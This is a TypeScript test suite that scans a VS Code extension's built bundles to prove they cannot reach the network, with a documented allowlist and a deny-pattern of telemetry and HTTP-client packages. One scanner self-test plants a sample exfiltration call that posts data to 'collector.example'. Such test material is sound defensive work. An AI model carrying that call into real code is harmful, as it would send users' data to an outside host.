// What ships cannot reach a network: every URL literal, every load of a Node
// network module, every computed module load and every browser network API in
// the built bundles (dist/*.js) and the webview's files (media/) must be on
// the allowlist below, which says for each why it never sends or loads
// anything. A new one fails the test until someone looks at it and writes the
// reason down here. Needs the development build (`npm run build`), whose
// module comments say which dependency each line comes from.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { ROOT } from '../helpers/fixtures';
import { scanBundle, type Finding, type FindingKind } from '../helpers/bundleScan';

interface Allowed {
  kind: FindingKind;
  /** The source module (see bundleScan's `module`). */
  module: RegExp;
  /** The URL, module name or API. */
  match: RegExp;
  /** For call sites and loads: how many a bundle may hold of this module's, so a new one is noticed. */
  count?: number;
  why: string;
}

const PDFJS = /^node_modules\/pdfjs-dist\/legacy\/build\/pdf\.mjs$/;
const PDFJS_WORKER = /^node_modules\/pdfjs-dist\/legacy\/build\/pdf\.worker\.mjs$/;
const PDFJS_ANY = /^node_modules\/pdfjs-dist\/legacy\/build\/pdf(\.worker)?\.mjs$/;

const ALLOWED: Allowed[] = [
  // ---- Our own sources ----
  {
    kind: 'url',
    module: /^server\/src\/service\/data\/schema\/(criteria|lexicon)\.schema\.json$/,
    match: /^https:\/\/json-schema\.org\/draft\/2020-12\/schema$/,
    why: 'the $schema of our criteria and lexicon schemas names the JSON Schema dialect; our validators (service/data, reading/lexicon.ts) read the schema as data and fetch nothing',
  },
  {
    kind: 'url',
    module: /^cli\/src\/check\/format\/sarif\.ts$/,
    match: /^https:\/\/json\.schemastore\.org\/sarif-2\.1\.0\.json$/,
    why: '`imr check --format sarif` writes this $schema into its output so SARIF readers know the format; the CLI never opens it',
  },
  {
    kind: 'url',
    module: /^package\.json$/,
    match: /^https:\/\/example\.invalid\/imr-author\.git$/,
    why: 'package.json is bundled for its version number; its repository field comes along and is never used',
  },
  // ---- pdfkit (PDF export) ----
  {
    kind: 'url',
    module: /^node_modules\/pdfkit\/js\/pdfkit\.js$/,
    match:
      /^http:\/\/(ns\.adobe\.com\/(pdf\/1\.3|xap\/1\.0)|purl\.org\/dc\/elements\/1\.1|www\.aiim\.org\/pdfu?a\/ns\/id|www\.w3\.org\/1999\/02\/22-rdf-syntax-ns#)\/?$/,
    why: "XML namespace names pdfkit writes into the PDF's XMP metadata; a namespace name is an identifier, not a resource",
  },
  {
    kind: 'dynamic-load',
    module: /^node_modules\/pdfkit\/js\/pdfkit\.js$/,
    match: /^createRequire\(/,
    count: 1,
    why: 'pdfkit makes a require to load its standard fonts from disk; esbuild.mjs rewrites those loads to bundled font modules, and the require is never called with anything else',
  },
  // ---- pdfjs-dist (letter import from PDF) ----
  {
    kind: 'web-network-api',
    module: PDFJS,
    match: /^fetch$/,
    count: 5,
    why: 'PDFFetchStream and the DOM CMap/standard-font/wasm factories: used only for a document `url` or a cMapUrl/standardFontDataUrl; import/pdfText.ts passes the bytes as `data` and neither URL (the no-network test imports a PDF with fetch made to throw)',
  },
  {
    kind: 'web-network-api',
    module: PDFJS,
    match: /^XMLHttpRequest$/,
    count: 3,
    why: "PDFNetworkStream and fetchData's browser fallback: only for a document `url` in a browser; we pass `data` in Node, where XMLHttpRequest does not exist",
  },
  {
    kind: 'web-network-api',
    module: PDFJS_WORKER,
    match: /^fetch$/,
    count: 3,
    why: "the worker's fetch of standard fonts, CMaps and wasm by URL; pdfText.ts gives no such URL and disables font faces",
  },
  {
    kind: 'web-network-api',
    module: PDFJS_WORKER,
    match: /^XMLHttpRequest$/,
    count: 2,
    why: "the worker's browser-only byte loader, for URLs we never give",
  },
  {
    kind: 'dynamic-load',
    module: PDFJS_ANY,
    match: /^(getBuiltinModule\(name\)|require\("' \+ name \+ '"\))$/,
    count: 1,
    why: "core-js's helper that loads a Node built-in by name for its polyfills (structuredClone and the like); it is called with fixed local module names",
  },
  {
    kind: 'dynamic-load',
    module: PDFJS,
    match: /^createRequire\(import_meta\.url\)$/,
    count: 2,
    why: 'pdfjs tries to load the optional @napi-rs/canvas package (not installed, not bundled) for rendering; text extraction does not need it',
  },
  {
    kind: 'url',
    module: PDFJS_ANY,
    match: /^http:\/\/\$\{url\}$/,
    why: 'pdfjs completes a link target written "www.…" in a PDF annotation into a URL string; it only builds the string, and we read text, not links',
  },
  {
    kind: 'url',
    module: PDFJS_ANY,
    match: /^https:\/\/github\.com\/zloirock\/core-js(\/blob\/v[\d.]+\/LICENSE)?$/,
    why: 'core-js records its own licence and source address in a version object; nothing reads them',
  },
  {
    kind: 'url',
    module: PDFJS_ANY,
    match:
      /^http:\/\/(www\.w3\.org\/(2000\/svg|1999\/xhtml|1999\/XSL\/Transform|2000\/09\/xmldsig#)|ns\.adobe\.com\/(xdp|xdp\/pdf|xfdf|xmpmeta)\/|www\.xfa\.org\/schema\/[\w/.-]+)$/,
    why: 'XML namespace names pdfjs compares against while parsing XFA forms, XMP metadata and SVG; identifiers, never fetched',
  },
  // ---- The editor connection ----
  {
    kind: 'node-network-module',
    module: /^node_modules\/vscode-jsonrpc\/lib\/node\/main\.js$/,
    match: /^net$/,
    count: 1,
    why: "vscode-jsonrpc's pipe and socket transports, used only when the editor starts the server with --pipe or --socket (a local connection to the editor itself); our VS Code client uses IPC, other editors stdio",
  },
  {
    kind: 'node-network-module',
    module: /^node_modules\/vscode-languageserver\/lib\/node\/files\.js$/,
    match: /^child_process$/,
    count: 1,
    why: 'Files.resolveGlobalNodePath/resolveModulePath run `npm`/`yarn` to find global modules; server.ts never calls them (the no-network test runs the server with child_process made to throw)',
  },
  {
    kind: 'node-network-module',
    module: /^node_modules\/vscode-languageclient\/lib\/node\/(main|processes)\.js$/,
    match: /^child_process$/,
    count: 1,
    why: 'the client starts our own server (dist/server.js) as a child process over IPC, and stops it (taskkill on Windows); no other program',
  },
  // ---- The webview ----
  {
    kind: 'url',
    module: /^media\/[\w-]+\.svg$/,
    match: /^http:\/\/www\.w3\.org\/2000\/svg$/,
    why: 'the SVG namespace in the preview icon',
  },
];

/** Every shipped file that holds code or markup: the bundles, and what the webview loads. */
function shippedFiles(): string[] {
  const dist = path.join(ROOT, 'dist');
  const media = path.join(ROOT, 'media');
  assert.ok(fs.existsSync(path.join(dist, 'server.js')), 'dist/ is missing: run `npm run build` first');
  return [
    ...fs
      .readdirSync(dist)
      .filter((f) => /\.(c|m)?js$/.test(f))
      .map((f) => path.join(dist, f)),
    ...fs
      .readdirSync(media)
      .filter((f) => /\.(js|css|html|svg)$/.test(f))
      .map((f) => path.join(media, f)),
  ];
}

function allowedFor(f: Finding): Allowed | undefined {
  return ALLOWED.find((a) => a.kind === f.kind && a.module.test(f.module) && a.match.test(f.match));
}

const scans = shippedFiles().map((file) => {
  const rel = path.relative(ROOT, file).split(path.sep).join('/');
  return { rel, ...scanBundle(fs.readFileSync(file, 'utf8'), rel) };
});

test('the bundles are development builds, so every finding is traced to its module', () => {
  for (const s of scans.filter((x) => x.rel.startsWith('dist/'))) {
    // The PDF reader's thread is pdf.js and a few modules of ours; the others bundle dozens.
    const least = s.rel === 'dist/pdf-worker.js' ? 3 : 20;
    assert.ok(s.modules > least, `${s.rel} has no module comments (a --production build?); build with \`npm run build\` to scan it`);
  }
  // The entry points are there (a missing one would pass unscanned).
  for (const b of ['dist/client.js', 'dist/server.js', 'dist/cli.js', 'dist/pdf-worker.js'])
    assert.ok(
      scans.some((s) => s.rel === b),
      `${b} was not scanned`,
    );
});

test('every URL, network module, computed load and network API in what ships is on the allowlist', () => {
  const unexplained: string[] = [];
  for (const s of scans) {
    for (const f of s.findings) if (!allowedFor(f)) unexplained.push(`${s.rel}:${f.line} (${f.module}): ${f.kind} ${f.match}`);
  }
  assert.deepEqual(unexplained, [], 'a new way to reach the network: remove it, or add it to ALLOWED with the reason it never runs');
});

test('no module holds more network call sites or loads than its allowlist entry explains', () => {
  const over: string[] = [];
  for (const s of scans) {
    const tally = new Map<string, number>();
    for (const f of s.findings) {
      const a = allowedFor(f);
      if (a?.count === undefined) continue;
      const key = `${f.module} ${f.kind} ${f.match}`;
      const n = (tally.get(key) ?? 0) + 1;
      tally.set(key, n);
      if (n === a.count + 1) over.push(`${s.rel}: ${key}: more than ${a.count}`);
    }
  }
  assert.deepEqual(over, []);
});

test('every allowlist entry still matches something (stale reasons are removed, not kept)', () => {
  const all = scans.flatMap((s) => s.findings);
  const stale = ALLOWED.filter((a) => !all.some((f) => a.kind === f.kind && a.module.test(f.module) && a.match.test(f.match)));
  assert.deepEqual(
    stale.map((a) => `${a.kind} ${a.module} ${a.match}`),
    [],
  );
});

test('the scanner finds what it looks for (a planted call, URL and load are reported)', () => {
  const planted = [
    '// node_modules/evil/index.js',
    'const r = await fetch("https://collector.example/upload", { body });',
    'const s = require("node:https");',
    'const t = process.getBuiltinModule(moduleName);',
    'navigator.sendBeacon(u, data);',
    'const tcp = process.binding("tcp_wrap"); const addon = require("./sockets.node");',
    '// a comment may mention https://docs.example/ freely',
  ].join('\n');
  const { findings } = scanBundle(planted, 'planted.js');
  const seen = findings.map((f) => `${f.module} ${f.kind} ${f.match}`);
  assert.deepEqual(seen, [
    'node_modules/evil/index.js url https://collector.example/upload',
    'node_modules/evil/index.js web-network-api fetch',
    'node_modules/evil/index.js node-network-module https',
    'node_modules/evil/index.js dynamic-load getBuiltinModule(moduleName)',
    'node_modules/evil/index.js web-network-api sendBeacon',
    'node_modules/evil/index.js dynamic-load require("./sockets.node")',
    'node_modules/evil/index.js dynamic-load process.binding',
  ]);
  assert.ok(
    findings.every((f) => !allowedFor(f)),
    'the allowlist must not cover an unknown module',
  );
});

// ---- Dependencies ----

/** Packages whose purpose is sending data somewhere: telemetry, crash reporting, analytics, HTTP clients. */
const NETWORK_PACKAGE =
  /^(@vscode\/extension-telemetry|applicationinsights|@sentry\/.*|@bugsnag\/.*|posthog-.*|mixpanel|analytics-node|@segment\/.*|axios|node-fetch|cross-fetch|got|request|superagent|undici|ws|socket\.io(-client)?|needle|phin|follow-redirects|https?-proxy-agent)$/;
/** Development tools that do use the network (downloading VS Code, a browser, publishing): they must never be bundled. */
const NETWORK_TOOLS = /^(@vscode\/test-electron|@vscode\/vsce|playwright-core|markdownlint-cli2)$/;

function packageOf(module: string): string | undefined {
  const m = /^node_modules\/((?:@[^/]+\/)?[^/]+)\//.exec(module);
  return m?.[1];
}

test('package.json declares no telemetry, analytics or HTTP-client dependency', () => {
  const pkg = JSON.parse(fs.readFileSync(path.join(ROOT, 'package.json'), 'utf8'));
  const names = Object.keys({ ...pkg.dependencies, ...pkg.devDependencies, ...pkg.optionalDependencies, ...pkg.peerDependencies });
  assert.ok(names.length > 5, 'package.json lists its dependencies');
  assert.deepEqual(
    names.filter((n) => NETWORK_PACKAGE.test(n)),
    [],
  );
});

test('no bundled module comes from a network package or a network-using dev tool', () => {
  const bundled = new Set<string>();
  for (const s of scans) {
    const text = fs.readFileSync(path.join(ROOT, s.rel), 'utf8');
    for (const m of text.matchAll(/^\/\/ \S*?(node_modules\/\S+)$/gm)) {
      const p = packageOf(m[1]);
      if (p) bundled.add(p);
    }
  }
  assert.ok(bundled.has('vscode-languageserver') && bundled.has('pdfkit'), `the bundles' packages were read: ${[...bundled].join(', ')}`);
  assert.deepEqual(
    [...bundled].filter((p) => NETWORK_PACKAGE.test(p) || NETWORK_TOOLS.test(p)),
    [],
  );
});
